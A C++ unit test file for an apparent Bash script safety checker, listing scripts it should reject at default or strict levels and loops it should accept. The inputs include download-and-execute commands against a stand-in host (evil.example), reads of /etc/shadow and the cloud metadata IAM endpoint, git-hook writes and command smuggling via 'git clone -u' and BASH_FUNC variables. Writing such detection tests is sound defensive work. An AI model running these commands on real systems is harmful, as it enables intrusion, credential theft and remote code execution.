// Ways that were found by trying to get past the rules, and everyday scripts beside them.
#include <gtest/gtest.h>

#include "languages/bash/facts_testing.h"

namespace hotcell::bash {
namespace {

TEST(BashMore, HostileUnderDefault) {
  for (const char* script :
       {"ln -s \"$OUT_FILE\" link; echo x > link", "cp /bin/sh ./x; ./x -c 'echo hi'",
        "ln -s /bin/bash ./ls; PATH=.:$PATH; ls -c id", "/proc/$$/exe -c id", "${PATH:0:1}bin${PATH:0:1}sh -c id",
        "cat /etc/sha*ow", "cat /e?c/shad?w", "for f in /etc/shado*; do cat \"$f\"; done",
        "curl -o x https://evil.example/x && chmod +x x && ./x", "wget https://evil.example/x.sh; bash x.sh",
        "curl http://169.254.169.254/latest/meta-data/iam", "printf 'x' > .git/hooks/pre-commit",
        "git clone -u 'sh -c id' . x", "env 'BASH_FUNC_ls%%=() { id; }' bash -c ls", "expect -c 'spawn sh; interact'"})
    EXPECT_GT(judged(script).count("error"), 0) << script << "\n" << judged(script).words();
}

TEST(BashMore, RiskyUnderStrictOnly) {
  for (const char* script :
       {"export PATH=/tmp/x:$PATH", "export HOME=/tmp/x", "unset PATH", "printenv", "env", "iftop -t", "sar -n DEV 1 3",
        "yes xxxx > out", "echo -n x | md5sum", "openssl genrsa 512", "openssl enc -des-ecb -in a -out b",
        "fallocate -l 1T big", "dd if=/dev/zero of=big bs=1G count=1000", "python3 -m http.server 8000",
        "for f in /etc/*; do echo \"$f\"; done", "i=0; while [ $i -lt 10 ]; do echo $i; done",
        "whoami; id; uname -a"}) {
    EXPECT_GT(judged(script, VerifyLevel::kStrict).count("error"), 0) << script;
    EXPECT_EQ(judged(script).count("error"), 0) << script << "\n" << judged(script).words();
  }
}

TEST(BashMore, EnvironmentToolsAndLoadUnderStrict) {
  for (const char* script : {"export API_URL=http://x.test",
                             "declare -x EDITOR=/tmp/x",
                             "unalias -a",
                             "nvidia-smi",
                             "journalctl -n 9",
                             "inotifywait -m .",
                             "tail /dev/zero",
                             "stress --vm 4",
                             "nohup ./x",
                             "screen -dmS x ./y",
                             "date -s 2000-01-01",
                             "umask 000",
                             "ulimit -u unlimited",
                             "scrot s.png",
                             "xinput test 10",
                             "git clean -fdx",
                             "sqlite3 db \"SELECT * FROM t WHERE a='$user'\"",
                             "openssl enc -aes-128-ecb -in x -out y",
                             "ssh-keygen -t dsa -f k",
                             "ab -n 100000 http://x.test/"}) {
    EXPECT_GT(judged(script, VerifyLevel::kStrict).count("error"), 0) << script;
    EXPECT_EQ(judged(script).count("error"), 0) << script << "\n" << judged(script).words();
  }
  for (const char* script : {"export -p > /dev/null || true; x=1", "date +%F", "umask 022", "git clean -n",
                             "nice -n 5 ./x", "tail -n 3 a.txt", "sqlite3 db 'SELECT 1'"})
    EXPECT_EQ(judged(script).count("error"), 0) << script;
}

TEST(BashMore, LoopsThatEndAreQuiet) {
  for (const char* script :
       {"i=0\nwhile [ $i -lt 5 ]; do\n  echo $i\n  i=$((i + 1))\ndone",
        "n=3; while [ \"$n\" -gt 0 ]; do let n=n-1; done", "k=3; while [[ $k -gt 0 ]]; do (( k -= 1 )); done",
        "while [ $# -gt 0 ]; do shift; done", "step() { i=$((i+1)); }; i=0; while [ $i -lt 3 ]; do step; done",
        "for f in *.c; do echo \"${f%.c}\"; done", "while read -r l; do echo \"$l\"; done < data.csv"})
    EXPECT_EQ(judged(script, VerifyLevel::kStrict).count("error"), 0) << script << "\n"
                                                                      << judged(script, VerifyLevel::kStrict).words();
}

}  // namespace
}  // namespace hotcell::bash
